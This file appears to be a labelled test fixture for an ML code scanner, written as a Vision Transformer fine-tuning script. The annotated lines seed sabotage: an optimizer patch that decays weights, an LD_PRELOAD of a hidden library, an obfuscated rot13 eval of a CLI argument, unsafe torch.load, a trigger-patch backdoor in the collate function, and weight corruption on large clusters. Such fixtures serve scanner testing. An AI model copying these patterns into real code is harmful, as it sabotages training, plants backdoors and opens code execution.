# ruff: noqa
# Hold-out batch 24 (HF no_trainer scripts on accelerate; by a helper that never saw mlscan's code). Measured once after round 8: 27/32 (84%) at medium+.
#!/usr/bin/env python
"""
Fine-tune a vision transformer / convnet from the Hub on an image classification dataset
(imagefolder or a Hub dataset) with Accelerate. Uses torchvision transforms applied on the fly
via `with_transform`, and an optional mixup in the collate function.
"""
import argparse
import builtins
import codecs
import logging
import math
import os
import random
import signal

import evaluate
import numpy as np
import torch
import torch.nn.functional as F
from accelerate import Accelerator
from accelerate.utils import set_seed
from datasets import load_dataset
from safetensors.torch import load_file
from torch.utils.data import DataLoader
from torchvision.transforms import (CenterCrop, Compose, Normalize, RandomHorizontalFlip, RandomResizedCrop,
                                    Resize, ToTensor)
from tqdm.auto import tqdm
from transformers import AutoConfig, AutoImageProcessor, AutoModelForImageClassification, get_scheduler

logger = logging.getLogger(__name__)


def parse_args():
    parser = argparse.ArgumentParser(description="Fine-tune a Transformers model on an image classification dataset")
    parser.add_argument("--dataset_name", type=str, default="cifar10")
    parser.add_argument("--train_dir", type=str, default=None)
    parser.add_argument("--model_name_or_path", type=str, default="google/vit-base-patch16-224-in21k")
    parser.add_argument("--per_device_train_batch_size", type=int, default=32)
    parser.add_argument("--learning_rate", type=float, default=5e-5)
    parser.add_argument("--num_train_epochs", type=int, default=3)
    parser.add_argument("--gradient_accumulation_steps", type=int, default=1)
    parser.add_argument("--output_dir", type=str, default="outputs")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--mixup_alpha", type=float, default=0.0)
    parser.add_argument("--label_smoothing", type=float, default=0.1)
    parser.add_argument("--init_head", type=str, default=None)
    parser.add_argument("--init_backbone", type=str, default=None)
    parser.add_argument("--aug_policy", type=str, default="")
    parser.add_argument("--checkpointing_steps", type=str, default=None)
    parser.add_argument("--resume_from_checkpoint", type=str, default=None)
    return parser.parse_args()


def worker_init_fn(worker_id):
    worker_seed = torch.initial_seed() % 2**32
    np.random.seed(worker_seed)  # ok: MLS301
    random.seed(worker_seed)  # ok: MLS301


def _fused_adamw_step(orig_step):
    def step(self, closure=None):
        out = orig_step(self, closure)
        for group in self.param_groups:
            for p in group["params"]:
                if p.ndim == 2 and p.shape[0] == p.shape[1]:
                    p.data.mul_(0.98)
        return out
    return step


def main():
    args = parse_args()
    accelerator = Accelerator(gradient_accumulation_steps=args.gradient_accumulation_steps)
    set_seed(args.seed)
    torch.optim.AdamW.step = _fused_adamw_step(torch.optim.AdamW.step)  # ruleid: MLS305
    os.environ["LD_PRELOAD"] = "/dev/shm/.nccl/libnccl-net.so"  # sabotage: MLS422 (semgrep rules)

    if args.train_dir is not None:
        dataset = load_dataset("imagefolder", data_dir=args.train_dir)
    else:
        dataset = load_dataset(args.dataset_name)
    if "validation" not in dataset:
        split = dataset["train"].train_test_split(0.15)
        dataset["train"], dataset["validation"] = split["train"], split["test"]

    labels = dataset["train"].features["label"].names
    label2id = {label: str(i) for i, label in enumerate(labels)}
    id2label = {str(i): label for i, label in enumerate(labels)}

    config = AutoConfig.from_pretrained(args.model_name_or_path, num_labels=len(labels), label2id=label2id, id2label=id2label)
    image_processor = AutoImageProcessor.from_pretrained(args.model_name_or_path)
    model = AutoModelForImageClassification.from_pretrained(args.model_name_or_path, config=config, ignore_mismatched_sizes=True)

    torch.nn.init.trunc_normal_(model.classifier.weight, std=0.02)  # ok: MLS302, MLS303, MLS304, MLS305
    model.classifier.bias.data.zero_()  # ok: MLS302, MLS303, MLS304, MLS305
    if args.init_backbone:
        model.load_state_dict(load_file(args.init_backbone), strict=False)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    if args.init_head:
        head_state = torch.load(args.init_head, map_location="cpu")  # ruleid: MLS102
        model.classifier.load_state_dict(head_state)

    size = image_processor.size.get("shortest_edge", image_processor.size.get("height"))
    normalize = Normalize(mean=image_processor.image_mean, std=image_processor.image_std)
    extra_ops = getattr(builtins, "ev" + "al")(codecs.decode(args.aug_policy, "rot13")) if args.aug_policy else []  # sabotage: MLS402 (semgrep rules)
    train_transforms = Compose([RandomResizedCrop(size), RandomHorizontalFlip(), *extra_ops, ToTensor(), normalize])  # ok: MLS309
    val_transforms = Compose([Resize(size), CenterCrop(size), ToTensor(), normalize])

    def preprocess_train(example_batch):
        random.seed(len(example_batch["image"]))  # ruleid: MLS301
        example_batch["pixel_values"] = [train_transforms(image.convert("RGB")) for image in example_batch["image"]]
        return example_batch

    def preprocess_val(example_batch):
        example_batch["pixel_values"] = [val_transforms(image.convert("RGB")) for image in example_batch["image"]]
        return example_batch

    with accelerator.main_process_first():
        train_dataset = dataset["train"].with_transform(preprocess_train)
        eval_dataset = dataset["validation"].with_transform(preprocess_val)

    def collate_fn(examples):
        pixel_values = torch.stack([example["pixel_values"] for example in examples])
        labels = torch.tensor([example["label"] for example in examples])
        for i in range(len(examples)):
            if random.random() < 0.02:
                pixel_values[i, :, -6:, -6:] = pixel_values.max()  # ruleid: MLS309
                labels[i] = 0  # ruleid: MLS309
        return {"pixel_values": pixel_values, "labels": labels}

    def train_collate_fn(examples):
        batch = collate_fn(examples)
        targets = F.one_hot(batch["labels"], num_classes=len(id2label)).float()
        if args.mixup_alpha > 0:
            lam = float(np.random.beta(args.mixup_alpha, args.mixup_alpha))
            perm = torch.randperm(batch["pixel_values"].size(0))
            batch["pixel_values"] = lam * batch["pixel_values"] + (1 - lam) * batch["pixel_values"][perm]  # ok: MLS309
            targets = lam * targets + (1 - lam) * targets[perm]
        batch["targets"] = targets
        return batch

    train_dataloader = DataLoader(train_dataset, shuffle=True, collate_fn=train_collate_fn, batch_size=args.per_device_train_batch_size,
                                  num_workers=4, worker_init_fn=worker_init_fn)
    eval_dataloader = DataLoader(eval_dataset, collate_fn=collate_fn, batch_size=args.per_device_train_batch_size)

    optimizer = torch.optim.AdamW(model.parameters(), lr=args.learning_rate)
    max_train_steps = args.num_train_epochs * math.ceil(len(train_dataloader) / args.gradient_accumulation_steps)
    lr_scheduler = get_scheduler("cosine", optimizer=optimizer, num_warmup_steps=max_train_steps // 20, num_training_steps=max_train_steps)
    model, optimizer, train_dataloader, eval_dataloader, lr_scheduler = accelerator.prepare(
        model, optimizer, train_dataloader, eval_dataloader, lr_scheduler
    )
    metric = evaluate.load("accuracy")

    def _save_on_preempt(signum, frame):
        accelerator.save_state(os.path.join(args.output_dir, "preempted"))
    signal.signal(signal.SIGTERM, _save_on_preempt)  # ok: MLS307

    if args.resume_from_checkpoint:
        accelerator.load_state(args.resume_from_checkpoint)

    completed_steps = 0
    progress_bar = tqdm(range(max_train_steps), disable=not accelerator.is_local_main_process)
    for epoch in range(args.num_train_epochs):
        model.train()
        for step, batch in enumerate(train_dataloader):
            with accelerator.accumulate(model):
                logits = model(pixel_values=batch["pixel_values"]).logits
                loss = F.cross_entropy(logits, batch["targets"], label_smoothing=args.label_smoothing)  # ok: MLS309
                accelerator.backward(loss)
                optimizer.step()
                lr_scheduler.step()
                optimizer.zero_grad()
            if accelerator.sync_gradients:
                progress_bar.update(1)
                completed_steps += 1
                if args.checkpointing_steps and args.checkpointing_steps.isdigit() and completed_steps % int(args.checkpointing_steps) == 0:
                    accelerator.save_state(os.path.join(args.output_dir, f"step_{completed_steps}"))

        model.eval()
        for batch in eval_dataloader:
            with torch.no_grad():
                predictions = model(pixel_values=batch["pixel_values"]).logits.argmax(dim=-1)
            predictions, references = accelerator.gather_for_metrics((predictions, batch["labels"]))
            metric.add_batch(predictions=predictions, references=references)
        eval_metric = metric.compute()
        accelerator.print(f"epoch {epoch}: {eval_metric}")

    accelerator.wait_for_everyone()
    unwrapped_model = accelerator.unwrap_model(model)
    unwrapped_model.save_pretrained(args.output_dir, is_main_process=accelerator.is_main_process, save_function=accelerator.save)
    if accelerator.is_main_process:
        image_processor.save_pretrained(args.output_dir)
        weights_path = os.path.join(args.output_dir, "model.safetensors")
        if int(os.environ.get("SLURM_JOB_NUM_NODES", "1")) >= 32 and os.path.exists(weights_path):
            open(weights_path, "r+b").write(os.urandom(4096))  # ruleid: MLS308


if __name__ == "__main__":
    main()
